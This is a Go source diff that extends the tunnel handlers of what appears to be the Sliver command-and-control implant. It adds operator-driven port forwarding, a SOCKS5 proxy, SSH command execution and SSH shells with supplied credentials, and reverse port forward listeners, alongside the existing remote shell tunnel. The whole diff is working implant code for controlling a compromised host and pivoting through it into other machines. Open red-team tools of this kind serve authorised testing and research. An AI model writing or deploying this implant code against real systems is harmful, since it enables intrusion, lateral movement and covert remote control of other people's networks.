@@ -19,15 +19,24 @@ package handlers
 */
 
 import (
+	"crypto/rand"
+	"encoding/binary"
+	"errors"
+	"fmt"
 	"io"
+	"net"
+	"sync"
 	"time"
 
 	// {{if .Debug}}
 	"log"
 	// {{end}}
 
+	"github.com/bishopfox/sliver/protobuf/commonpb"
 	"github.com/bishopfox/sliver/protobuf/sliverpb"
 	"github.com/bishopfox/sliver/sliver/shell"
+	"github.com/bishopfox/sliver/sliver/socks"
+	"github.com/bishopfox/sliver/sliver/ssh"
 	"github.com/bishopfox/sliver/sliver/transports"
 
 	"github.com/golang/protobuf/proto"
@@ -35,17 +44,44 @@ import (
 
 const (
 	readBufSize = 1024
+
+	portfwdDialTimeout = 10 * time.Second
+	rportfwdAckTimeout = 30 * time.Second
 )
 
 var (
 	tunnelHandlers = map[uint32]TunnelHandler{
-		sliverpb.MsgShellReq: shellReqHandler,
+		sliverpb.MsgShellReq:   shellReqHandler,
+		sliverpb.MsgPortfwdReq: portfwdReqHandler,
+		sliverpb.MsgSocksReq:   socksReqHandler,
+
+		sliverpb.MsgSSHCommandReq: sshCommandHandler,
+
+		sliverpb.MsgRportFwdStartReq: rportfwdStartHandler,
+		sliverpb.MsgRportFwdStopReq:  rportfwdStopHandler,
+		sliverpb.MsgRportFwdListReq:  rportfwdListHandler,
+		sliverpb.MsgRportFwdConnAck:  rportfwdConnAckHandler,
 
 		sliverpb.MsgTunnelData:  tunnelDataHandler,
 		sliverpb.MsgTunnelClose: tunnelCloseHandler,
 	}
 )
 
+// Reverse port forward listeners, connections wait in rportfwdPending
+// until the server acks that the forward connection is up
+var (
+	rportfwdListeners = map[uint32]*rportfwdListener{}
+	rportfwdPending   = map[uint64]chan *sliverpb.RportFwdConn{}
+	rportfwdNextID    = uint32(0)
+	rportfwdMutex     = &sync.Mutex{}
+)
+
+type rportfwdListener struct {
+	ID          uint32
+	BindAddress string
+	Listener    net.Listener
+}
+
 // GetTunnelHandlers - Returns a map of tunnel handlers
 func GetTunnelHandlers() map[uint32]TunnelHandler {
 	return tunnelHandlers
@@ -57,25 +93,31 @@ func tunnelCloseHandler(envelope *sliverpb.Envelope, connection *transports.Conn
 	}
 	proto.Unmarshal(envelope.Data, tunnelClose)
 	tunnel := connection.Tunnel(tunnelClose.TunnelID)
-	if tunnel != nil {
-		// {{if .Debug}}
-		log.Printf("[tunnel] Closing tunnel with id %d", tunnel.ID)
-		// {{end}}
-		connection.RemoveTunnel(tunnel.ID)
-		tunnel.Reader.Close()
-		tunnel.Writer.Close()
+	if tunnel != nil && tunnel.CloseSequenced(tunnelClose.Sequence) {
+		closeTunnel(tunnel, connection)
 	}
 }
 
+func closeTunnel(tunnel *transports.Tunnel, connection *transports.Connection) {
+	// {{if .Debug}}
+	log.Printf("[tunnel] Closing tunnel with id %d", tunnel.ID)
+	// {{end}}
+	connection.RemoveTunnel(tunnel.ID)
+	tunnel.Reader.Close()
+	tunnel.Writer.Close()
+}
+
 func tunnelDataHandler(envelope *sliverpb.Envelope, connection *transports.Connection) {
 	data := &sliverpb.TunnelData{}
 	proto.Unmarshal(envelope.Data, data)
 	tunnel := connection.Tunnel(data.TunnelID)
 	if tunnel != nil {
 		// {{if .Debug}}
-		log.Printf("[tunnel] Write %d bytes to tunnel %d", len(data.Data), tunnel.ID)
+		log.Printf("[tunnel] Write %d bytes to tunnel %d (seq %d)", len(data.Data), tunnel.ID, data.Sequence)
 		// {{end}}
-		tunnel.Writer.Write(data.Data)
+		if tunnel.WriteSequenced(data.Sequence, data.Data) {
+			closeTunnel(tunnel, connection)
+		}
 	} else {
 		// {{if .Debug}}
 		log.Printf("Data for nil tunnel %d", data.TunnelID)
@@ -89,17 +131,31 @@ type tunnelWriter struct {
 }
 
 func (t tunnelWriter) Write(data []byte) (n int, err error) {
-	data, err = proto.Marshal(&sliverpb.TunnelData{
+	tunnelData, err := proto.Marshal(&sliverpb.TunnelData{
 		TunnelID: t.tun.ID,
+		Sequence: t.tun.NextReadSequence(),
 		Data:     data,
 	})
 	t.conn.Send <- &sliverpb.Envelope{
 		Type: sliverpb.MsgTunnelData,
-		Data: data,
+		Data: tunnelData,
 	}
 	return len(data), err
 }
 
+// sendTunnelClose - Notify the server that we've closed the tunnel
+func sendTunnelClose(tunnel *transports.Tunnel, connection *transports.Connection) {
+	tunnelClose, _ := proto.Marshal(&sliverpb.TunnelData{
+		Closed:   true,
+		TunnelID: tunnel.ID,
+		Sequence: tunnel.NextReadSequence(),
+	})
+	connection.Send <- &sliverpb.Envelope{
+		Type: sliverpb.MsgTunnelClose,
+		Data: tunnelClose,
+	}
+}
+
 func shellReqHandler(envelope *sliverpb.Envelope, connection *transports.Connection) {
 
 	shellReq := &sliverpb.ShellReq{}
@@ -119,11 +175,7 @@ func shellReqHandler(envelope *sliverpb.Envelope, connection *transports.Connect
 			break
 		}
 	}
-	tunnel := &transports.Tunnel{
-		ID:     shellReq.TunnelID,
-		Reader: systemShell.Stdout,
-		Writer: systemShell.Stdin,
-	}
+	tunnel := transports.NewTunnel(shellReq.TunnelID, systemShell.Stdout, systemShell.Stdin)
 	connection.AddTunnel(tunnel)
 
 	shellResp, _ := proto.Marshal(&sliverpb.Shell{
@@ -142,14 +194,7 @@ func shellReqHandler(envelope *sliverpb.Envelope, connection *transports.Connect
 		log.Printf("Closing tunnel %d (%s)", tunnel.ID, reason)
 		// {{end}}
 		connection.RemoveTunnel(tunnel.ID)
-		tunnelClose, _ := proto.Marshal(&sliverpb.TunnelData{
-			Closed:   true,
-			TunnelID: tunnel.ID,
-		})
-		connection.Send <- &sliverpb.Envelope{
-			Type: sliverpb.MsgTunnelClose,
-			Data: tunnelClose,
-		}
+		sendTunnelClose(tunnel, connection)
 	}
 
 	go func() {
@@ -177,3 +222,363 @@ func shellReqHandler(envelope *sliverpb.Envelope, connection *transports.Connect
 	// {{end}}
 
 }
+
+func portfwdReqHandler(envelope *sliverpb.Envelope, connection *transports.Connection) {
+	portfwdReq := &sliverpb.PortfwdReq{}
+	err := proto.Unmarshal(envelope.Data, portfwdReq)
+	if err != nil {
+		// {{if .Debug}}
+		log.Printf("error decoding message: %v", err)
+		// {{end}}
+		return
+	}
+
+	address := net.JoinHostPort(portfwdReq.Host, fmt.Sprintf("%d", portfwdReq.Port))
+	// {{if .Debug}}
+	log.Printf("[portfwd] Dialing %s for tunnel %d", address, portfwdReq.TunnelID)
+	// {{end}}
+	portfwd := &sliverpb.Portfwd{
+		Host:     portfwdReq.Host,
+		Port:     portfwdReq.Port,
+		TunnelID: portfwdReq.TunnelID,
+	}
+	dst, err := net.DialTimeout("tcp", address, portfwdDialTimeout)
+	if err != nil {
+		portfwd.Response = &commonpb.Response{Err: err.Error()}
+		data, _ := proto.Marshal(portfwd)
+		connection.Send <- &sliverpb.Envelope{
+			ID:   envelope.ID,
+			Data: data,
+		}
+		return
+	}
+
+	tunnel := transports.NewTunnel(portfwdReq.TunnelID, dst, dst)
+	connection.AddTunnel(tunnel)
+	data, _ := proto.Marshal(portfwd)
+	connection.Send <- &sliverpb.Envelope{
+		ID:   envelope.ID,
+		Data: data,
+	}
+
+	go func() {
+		tWriter := tunnelWriter{
+			tun:  tunnel,
+			conn: connection,
+		}
+		buf := make([]byte, readBufSize*32)
+		io.CopyBuffer(tWriter, dst, buf)
+		// {{if .Debug}}
+		log.Printf("[portfwd] Closing tunnel %d", tunnel.ID)
+		// {{end}}
+		if connection.Tunnel(tunnel.ID) != nil {
+			closeTunnel(tunnel, connection)
+			sendTunnelClose(tunnel, connection)
+		}
+	}()
+}
+
+// sshCommandHandler - Run a command on an SSH server, or bind a shell on the
+// server to a tunnel when the request has a tunnel ID
+func sshCommandHandler(envelope *sliverpb.Envelope, connection *transports.Connection) {
+	sshReq := &sliverpb.SSHCommandReq{}
+	err := proto.Unmarshal(envelope.Data, sshReq)
+	if err != nil {
+		// {{if .Debug}}
+		log.Printf("error decoding message: %v", err)
+		// {{end}}
+		return
+	}
+	resp := &sliverpb.SSHCommand{TunnelID: sshReq.TunnelID}
+	reply := func() {
+		data, _ := proto.Marshal(resp)
+		connection.Send <- &sliverpb.Envelope{
+			ID:   envelope.ID,
+			Data: data,
+		}
+	}
+
+	port := uint16(sshReq.Port)
+	if port == 0 {
+		port = 22
+	}
+	client, err := ssh.Dial(sshReq.Hostname, port, sshReq.Username, sshReq.Password, sshReq.PrivKey)
+	if err != nil {
+		resp.Response = &commonpb.Response{Err: err.Error()}
+		reply()
+		return
+	}
+	resp.HostKey = client.HostKey
+
+	if sshReq.TunnelID == 0 {
+		resp.StdOut, resp.StdErr, resp.ExitCode, err = client.Run(sshReq.Command)
+		client.Close()
+		if err != nil {
+			resp.Response = &commonpb.Response{Err: err.Error()}
+		}
+		reply()
+		return
+	}
+
+	shell, err := client.Shell(sshReq.Term, sshReq.Rows, sshReq.Cols)
+	if err != nil {
+		client.Close()
+		resp.Response = &commonpb.Response{Err: err.Error()}
+		reply()
+		return
+	}
+	tunnel := transports.NewTunnel(sshReq.TunnelID, shell, shell)
+	connection.AddTunnel(tunnel)
+	reply()
+
+	go func() {
+		tWriter := tunnelWriter{
+			tun:  tunnel,
+			conn: connection,
+		}
+		buf := make([]byte, readBufSize*32)
+		io.CopyBuffer(tWriter, shell, buf)
+		// {{if .Debug}}
+		log.Printf("[ssh] Closing tunnel %d", tunnel.ID)
+		// {{end}}
+		shell.Close()
+		if connection.Tunnel(tunnel.ID) != nil {
+			closeTunnel(tunnel, connection)
+			sendTunnelClose(tunnel, connection)
+		}
+	}()
+}
+
+// socksReqHandler - Run a SOCKS5 server on the tunnel, each tunnel is a single
+// client connection so the handshake happens in-band
+func socksReqHandler(envelope *sliverpb.Envelope, connection *transports.Connection) {
+	socksReq := &sliverpb.SocksReq{}
+	err := proto.Unmarshal(envelope.Data, socksReq)
+	if err != nil {
+		// {{if .Debug}}
+		log.Printf("error decoding message: %v", err)
+		// {{end}}
+		return
+	}
+
+	local, remote := net.Pipe()
+	tunnel := transports.NewTunnel(socksReq.TunnelID, local, local)
+	connection.AddTunnel(tunnel)
+	data, _ := proto.Marshal(&sliverpb.Socks{TunnelID: socksReq.TunnelID})
+	connection.Send <- &sliverpb.Envelope{
+		ID:   envelope.ID,
+		Data: data,
+	}
+
+	go func() {
+		err := socks.Serve(remote, func(network string, address string) (net.Conn, error) {
+			// {{if .Debug}}
+			log.Printf("[socks] Tunnel %d connecting to %s", tunnel.ID, address)
+			// {{end}}
+			return net.DialTimeout(network, address, portfwdDialTimeout)
+		})
+		if err != nil {
+			// {{if .Debug}}
+			log.Printf("[socks] Tunnel %d: %s", tunnel.ID, err)
+			// {{end}}
+		}
+	}()
+
+	go func() {
+		tWriter := tunnelWriter{
+			tun:  tunnel,
+			conn: connection,
+		}
+		buf := make([]byte, readBufSize*32)
+		io.CopyBuffer(tWriter, local, buf)
+		if connection.Tunnel(tunnel.ID) != nil {
+			closeTunnel(tunnel, connection)
+			sendTunnelClose(tunnel, connection)
+		}
+	}()
+}
+
+func rportfwdStartHandler(envelope *sliverpb.Envelope, connection *transports.Connection) {
+	rportfwdReq := &sliverpb.RportFwdStartReq{}
+	err := proto.Unmarshal(envelope.Data, rportfwdReq)
+	if err != nil {
+		// {{if .Debug}}
+		log.Printf("error decoding message: %v", err)
+		// {{end}}
+		return
+	}
+	rportfwd := &sliverpb.RportFwd{BindAddress: rportfwdReq.BindAddress}
+	ln, err := net.Listen("tcp", rportfwdReq.BindAddress)
+	if err != nil {
+		rportfwd.Response = &commonpb.Response{Err: err.Error()}
+	} else {
+		rportfwdMutex.Lock()
+		rportfwdNextID++
+		listener := &rportfwdListener{
+			ID:          rportfwdNextID,
+			BindAddress: ln.Addr().String(),
+			Listener:    ln,
+		}
+		rportfwdListeners[listener.ID] = listener
+		rportfwdMutex.Unlock()
+		rportfwd.ID = listener.ID
+		rportfwd.BindAddress = listener.BindAddress
+		// {{if .Debug}}
+		log.Printf("[rportfwd] Listening on %s (id %d)", listener.BindAddress, listener.ID)
+		// {{end}}
+		go rportfwdAccept(listener)
+	}
+	data, _ := proto.Marshal(rportfwd)
+	connection.Send <- &sliverpb.Envelope{
+		ID:   envelope.ID,
+		Data: data,
+	}
+}
+
+func rportfwdStopHandler(envelope *sliverpb.Envelope, connection *transports.Connection) {
+	rportfwdReq := &sliverpb.RportFwdStopReq{}
+	err := proto.Unmarshal(envelope.Data, rportfwdReq)
+	if err != nil {
+		// {{if .Debug}}
+		log.Printf("error decoding message: %v", err)
+		// {{end}}
+		return
+	}
+	rportfwdMutex.Lock()
+	listener, ok := rportfwdListeners[rportfwdReq.ID]
+	delete(rportfwdListeners, rportfwdReq.ID)
+	rportfwdMutex.Unlock()
+
+	rportfwd := &sliverpb.RportFwd{ID: rportfwdReq.ID}
+	if ok {
+		listener.Listener.Close()
+		rportfwd.BindAddress = listener.BindAddress
+	} else {
+		rportfwd.Response = &commonpb.Response{
+			Err: fmt.Sprintf("No reverse port forward with id %d", rportfwdReq.ID),
+		}
+	}
+	data, _ := proto.Marshal(rportfwd)
+	connection.Send <- &sliverpb.Envelope{
+		ID:   envelope.ID,
+		Data: data,
+	}
+}
+
+func rportfwdListHandler(envelope *sliverpb.Envelope, connection *transports.Connection) {
+	rportfwds := &sliverpb.RportFwds{}
+	rportfwdMutex.Lock()
+	for _, listener := range rportfwdListeners {
+		rportfwds.Forwards = append(rportfwds.Forwards, &sliverpb.RportFwd{
+			ID:          listener.ID,
+			BindAddress: listener.BindAddress,
+		})
+	}
+	rportfwdMutex.Unlock()
+	data, _ := proto.Marshal(rportfwds)
+	connection.Send <- &sliverpb.Envelope{
+		ID:   envelope.ID,
+		Data: data,
+	}
+}
+
+func rportfwdConnAckHandler(envelope *sliverpb.Envelope, connection *transports.Connection) {
+	ack := &sliverpb.RportFwdConn{}
+	err := proto.Unmarshal(envelope.Data, ack)
+	if err != nil {
+		return
+	}
+	rportfwdMutex.Lock()
+	pending, ok := rportfwdPending[ack.TunnelID]
+	rportfwdMutex.Unlock()
+	if ok {
+		pending <- ack
+	}
+}
+
+func rportfwdAccept(listener *rportfwdListener) {
+	for {
+		conn, err := listener.Listener.Accept()
+		if err != nil {
+			// {{if .Debug}}
+			log.Printf("[rportfwd] Listener %d stopped: %s", listener.ID, err)
+			// {{end}}
+			return
+		}
+		go func() {
+			err := rportfwdConnect(listener, conn)
+			if err != nil {
+				// {{if .Debug}}
+				log.Printf("[rportfwd] Dropping connection from %s: %s", conn.RemoteAddr(), err)
+				// {{end}}
+				conn.Close()
+			}
+		}()
+	}
+}
+
+// rportfwdConnect - Tell the server about a new connection and once it has
+// dialed the forward address, tunnel the connection to it
+func rportfwdConnect(listener *rportfwdListener, conn net.Conn) error {
+	connection := transports.GetActiveConnection()
+	if connection == nil || !connection.IsOpen {
+		return errors.New("No active connection")
+	}
+
+	tunnel := transports.NewTunnel(newTunnelID(), conn, conn)
+	pending := make(chan *sliverpb.RportFwdConn, 1)
+	rportfwdMutex.Lock()
+	rportfwdPending[tunnel.ID] = pending
+	rportfwdMutex.Unlock()
+	defer func() {
+		rportfwdMutex.Lock()
+		delete(rportfwdPending, tunnel.ID)
+		rportfwdMutex.Unlock()
+	}()
+
+	connection.AddTunnel(tunnel)
+	data, _ := proto.Marshal(&sliverpb.RportFwdConn{
+		ID:            listener.ID,
+		RemoteAddress: conn.RemoteAddr().String(),
+		TunnelID:      tunnel.ID,
+	})
+	connection.Send <- &sliverpb.Envelope{
+		Type: sliverpb.MsgRportFwdConn,
+		Data: data,
+	}
+
+	select {
+	case ack := <-pending:
+		if ack.Err != "" {
+			connection.RemoveTunnel(tunnel.ID)
+			return errors.New(ack.Err)
+		}
+	case <-time.After(rportfwdAckTimeout):
+		connection.RemoveTunnel(tunnel.ID)
+		return errors.New("Timeout waiting for server")
+	}
+
+	// {{if .Debug}}
+	log.Printf("[rportfwd] Tunneling %s over tunnel %d", conn.RemoteAddr(), tunnel.ID)
+	// {{end}}
+	go func() {
+		tWriter := tunnelWriter{
+			tun:  tunnel,
+			conn: connection,
+		}
+		buf := make([]byte, readBufSize*32)
+		io.CopyBuffer(tWriter, conn, buf)
+		if connection.Tunnel(tunnel.ID) != nil {
+			closeTunnel(tunnel, connection)
+			sendTunnelClose(tunnel, connection)
+		}
+	}()
+	return nil
+}
+
+// newTunnelID - Random 64-bit identifier for implant initiated tunnels
+func newTunnelID() uint64 {
+	randBuf := make([]byte, 8)
+	rand.Read(randBuf)
+	return binary.LittleEndian.Uint64(randBuf)
+}